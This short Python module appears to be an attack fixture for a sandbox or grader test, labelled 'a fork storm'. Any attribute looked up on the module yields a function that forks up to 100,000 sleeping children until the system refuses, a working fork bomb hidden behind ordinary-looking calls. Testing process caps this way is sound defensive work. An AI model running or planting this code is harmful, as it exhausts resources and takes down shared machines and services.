# attack: a fork storm: fork until refused, every child sleeping
# cheats: *
# needs: nproc_cap
import functools
import os
import time

_done = []


def _cheat(name, *args, **kwargs):
    if not _done:
        _done.append(True)
        for _ in range(100000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(300)
                os._exit(0)
    return None


def __getattr__(name):
    if name.startswith("_"):
        raise AttributeError(name)
    return functools.partial(_cheat, name)
